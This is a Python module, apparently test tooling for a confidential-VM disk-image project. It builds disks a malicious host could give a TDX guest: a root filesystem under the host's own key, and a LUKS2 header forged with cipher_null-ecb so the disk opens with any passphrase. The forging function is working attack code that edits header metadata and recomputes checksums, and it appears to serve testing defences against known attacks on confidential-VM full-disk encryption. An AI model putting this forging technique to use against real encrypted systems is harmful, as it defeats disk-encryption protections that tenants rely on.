"""Disks a host makes for a TD: its own root filesystem under its own key, and a LUKS2
header forged with ``cipher_null`` that opens with any passphrase (the 2025 CVM
full-disk-encryption attacks). Built offline on files, as the host could."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import struct
import subprocess
from pathlib import Path

from tdxvm.image import luks
from tdxvm.image.verity import format_tree
from tdxvm.image.xts import XtsPlain64

HOST_PASSPHRASE = b"the host's passphrase"
MOTD = b"this root filesystem was built by the host\n"


def host_payload(folder: Path, data_bytes: int) -> Path:
    """An ext4 image of the host's own (a /etc/motd of its choosing), ``data_bytes`` long,
    with its own dm-verity tree after it: a complete verified root, just not the built one."""
    tree = folder / "host-root"
    (tree / "etc").mkdir(parents=True)
    (tree / "etc/motd").write_bytes(MOTD)
    image = folder / "host-root.ext4"
    subprocess.run(["mkfs.ext4", "-q", "-F", "-d", str(tree), str(image), f"{data_bytes // 1024}k"], check=True)
    format_tree(image)
    return image


def host_built_disk(payload: Path, out: Path, *, uuid: str) -> bytes:
    """``payload`` under a LUKS2 header (aes-xts-plain64) and a volume key of the host's;
    returns the key."""
    key = os.urandom(64)
    luks.encrypt_image(payload=payload, output=out, volume_key=key, passphrase=HOST_PASSPHRASE, uuid=uuid)
    return key


def forge_cipher_null(payload: Path, out: Path, *, uuid: str) -> bytes:
    """A LUKS2 image whose segment and keyslot use ``cipher_null-ecb``: the keyslot's key
    material is stored in the clear, so the keyslot yields the host's volume key whatever
    the passphrase, and the payload is ``payload`` in the clear. Made from a genuine
    cryptsetup header for the host's key, with the JSON edited and the checksums of both
    header copies recomputed ([LUKS2] "Binary header"). Returns the host's key."""
    key = host_built_disk(payload, out, uuid=uuid)
    header = luks.read_header(out)
    size = header.header_size
    with open(out, "r+b") as f:
        meta = header.metadata
        for slot in meta["keyslots"].values():
            area, kdf = slot["area"], slot["kdf"]
            area_key = hashlib.pbkdf2_hmac(
                kdf["hash"], HOST_PASSPHRASE, luks._b64(kdf["salt"]), int(kdf["iterations"]), int(area["key_size"])
            )
            f.seek(int(area["offset"]))
            sealed = f.read(int(area["size"]))
            clear = bytes(XtsPlain64(area_key).decrypt(sealed))
            f.seek(int(area["offset"]))
            f.write(clear)  # the AF-split key in the clear: any "decryption" of it gives the key
            area["encryption"] = "cipher_null-ecb"
        for segment in meta["segments"].values():
            segment["encryption"] = "cipher_null-ecb"
        f.seek(luks.DATA_OFFSET)
        with open(payload, "rb") as src:
            shutil.copyfileobj(src, f, 4 << 20)  # the payload in the clear
        text = json.dumps(meta, separators=(",", ":")).encode()
        for offset in (0, size):  # primary and secondary header
            f.seek(offset)
            binary = bytearray(f.read(4096))
            area_bytes = text.ljust(size - 4096, b"\0")
            body = bytes(binary[: luks._CSUM_AT]) + bytes(64) + bytes(binary[luks._CSUM_AT + 64 :]) + area_bytes
            struct.pack_into("64s", binary, luks._CSUM_AT, hashlib.sha256(body).digest())
            f.seek(offset)
            f.write(bytes(binary) + area_bytes)
    return key


def opens_with_any_passphrase(image: Path, key: bytes) -> bool:
    """Whether the forged keyslot yields ``key`` without any passphrase (its material is clear)."""
    header = luks.read_header(image)
    with open(image, "rb") as f:
        for slot in header.metadata["keyslots"].values():
            if slot["area"]["encryption"] != "cipher_null-ecb":
                continue
            f.seek(int(slot["area"]["offset"]))
            stripes, size = int(slot["af"]["stripes"]), int(slot["key_size"])
            material = f.read(size * stripes)
            if luks.af_merge(material, size, stripes, slot["af"]["hash"]) == key:
                return luks.volume_key_matches(header, key)
    return False
